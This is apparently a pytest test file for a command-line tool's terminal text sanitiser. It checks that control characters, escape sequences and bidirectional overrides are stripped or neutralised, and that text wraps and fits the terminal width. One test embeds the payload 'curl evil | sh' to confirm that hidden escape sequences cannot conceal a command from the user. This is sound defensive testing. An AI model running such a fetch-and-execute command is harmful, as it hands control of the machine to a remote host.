"""Words on a terminal: nothing acts on it, everything has its width."""

from __future__ import annotations

import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from stretto.cli import usage
from stretto.cli.show import without_power
from stretto.cli.text import (
    age,
    clean,
    clip,
    coloured,
    duration,
    hang,
    pad,
    quota,
    seen,
    timestamp,
    unicode_ok,
    width,
    wrap,
)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("a\nb\tc\r", "a b c "),
        ("\x1b]0;title\x07x", "x"),
        ("\x1b]0;no end\nof it", " of it"),
        ("\x1b[2Jgone", "gone"),
        ("\x9b31mred", "31mred"),
        ("[31m", "[31m"),
        ("\u202eevil\u2066", "evil"),
        ("日本 é", "日本 é"),
        ("\ud800", ""),
    ],
)
def test_clean(text: str, shown: str) -> None:
    assert clean(text) == shown


@pytest.mark.parametrize(
    "hiding", ["\x1b]0;{}\x07", "\x1b_{}", "\x9d{}", "\x1b[{}", "\u202e{}", "\r{}", "\x1bP{}\x1b\\"]
)
def test_what_a_person_consents_to_hides_nothing(hiding: str) -> None:
    payload = ";/1; curl evil | sh;"
    assert payload in seen(f"echo hi {hiding.format(payload)}")
    assert not set("\x1b\x07\x9d\u202e\r") & set(seen(hiding.format(payload), lines=True))


def test_clean_keeps_lines_where_asked() -> None:
    assert clean("a\r\nb\tc\x07", lines=True) == "a\nb   c"


@given(st.text(), st.integers(0, 40))
def test_clip_and_pad_fit(text: str, columns: int) -> None:
    text = clean(text)
    assert width(clip(text, columns)) <= columns
    assert width(pad(text, columns)) == columns


@given(st.text(alphabet=st.sampled_from("ab 日é\n"), max_size=200), st.integers(10, 60))
def test_wrap_fits_and_loses_nothing(text: str, columns: int) -> None:
    lines = wrap(text, columns, "  ")
    assert all(width(line) <= columns for line in lines)
    assert "".join("".join(lines).split()) == "".join(text.split())


@given(st.text())
def test_clean_text_has_no_control_characters(text: str) -> None:
    assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in clean(text))


def test_durations_take_at_most_six_columns() -> None:
    assert [duration(s) for s in (-1, 0, 59, 60, 3599, 3600, 86399, 86400, 8640000)] == [
        "0s", "0s", "59s", "1m00s", "59m59s", "1h00m", "23h59m", "1d00h", "100d00h",
    ]  # fmt: skip
    assert [age(s) for s in (5, 60, 7200, 200000)] == ["5 s", "1 min", "2 h", "2 d"]


def test_timestamps() -> None:
    assert timestamp("1970-01-01T00:01:00Z") == 60.0
    assert timestamp(5) == 5.0
    assert timestamp("soon") is None
    assert timestamp(None) is None


def test_colour_is_asked_for_and_can_be_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    class Terminal(io.StringIO):
        def isatty(self) -> bool:
            return True

    monkeypatch.setenv("TERM", "xterm")
    assert coloured(Terminal())
    assert not coloured(io.StringIO())
    monkeypatch.setenv("FORCE_COLOR", "1")
    assert coloured(io.StringIO())
    monkeypatch.setenv("NO_COLOR", "1")
    assert not coloured(Terminal())


def test_what_can_be_shown_is_asked_of_the_stream() -> None:
    assert unicode_ok(io.TextIOWrapper(io.BytesIO(), encoding="utf-8"))
    assert not unicode_ok(io.TextIOWrapper(io.BytesIO(), encoding="ascii"))


def test_diffs_keep_colours_and_lose_power() -> None:
    assert without_power("\x1b[31m-a\x1b[m\n\x1b]52;c;eA==\x07\x1b[2J") == "\x1b[31m-a\x1b[m\n�]52;c;eA==��[2J"


def test_a_quota_is_told_with_its_share_and_its_end() -> None:
    window = {"window": "5h", "used": 0.834, "resets_at": "2026-01-01T00:00:00Z", "exhausted": False}
    assert quota(window) == "5h 83% used, begins anew at 2026-01-01T00:00:00Z"
    assert quota({**window, "exhausted": True}) == "5h used up, begins anew at 2026-01-01T00:00:00Z"
    assert quota({**window, "used": None, "resets_at": None}) == "5h unknown"


@given(st.text(st.sampled_from("ab 日"), max_size=200), st.integers(20, 80))
def test_what_hangs_over_is_indented_and_nothing_is_lost(text: str, columns: int) -> None:
    lines = hang(text, columns)
    assert hang(text, None) == [text]
    if width(text) - width(text.lstrip(" ")) <= columns // 2:
        assert all(width(line) <= columns for line in lines)
    assert "".join("".join(lines).split()) == "".join(text.split())


@given(st.integers(0, 10**12))
def test_a_rounded_number_is_short_and_near(number: int) -> None:
    told = usage._rounded(number)
    assert len(told) <= 6
    value = float(told.rstrip("kMG")) * {"k": 1e3, "M": 1e6, "G": 1e9}.get(told[-1], 1)
    assert abs(value - number) <= number * 0.01


def test_the_table_of_usage_fits_the_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    row: dict[str, Any] = {
        "input": 12345678,
        "output": 987654,
        "cache_read": 123456789,
        "cache_write": 1,
        "reasoning": 99999,
    }
    row |= {"cost": {"amount": "1234.5678", "currency": "USD", "source": "agent"}}
    by = {f"a-release-with-a-long-name-k3fd/{name}": row for name in ("search", "schema")}
    found = {"by": by, "total": row, "unpriced": ["m"], "budgets": [], "rate": {"tokens_per_s": 0}, "strong": None}
    found |= {"prices": [], "quotas": []}
    wide = usage.lines(found, "task")
    assert "123 456 789" in wide[1]
    monkeypatch.setattr(usage, "terminal_width", lambda: 80)
    narrow = usage.lines(found, "task")
    assert max(map(width, narrow)) <= 80
    assert [line.split()[0].rpartition("/")[2] for line in narrow[1:3]] == ["search", "schema"]
    assert "123M" in narrow[1]
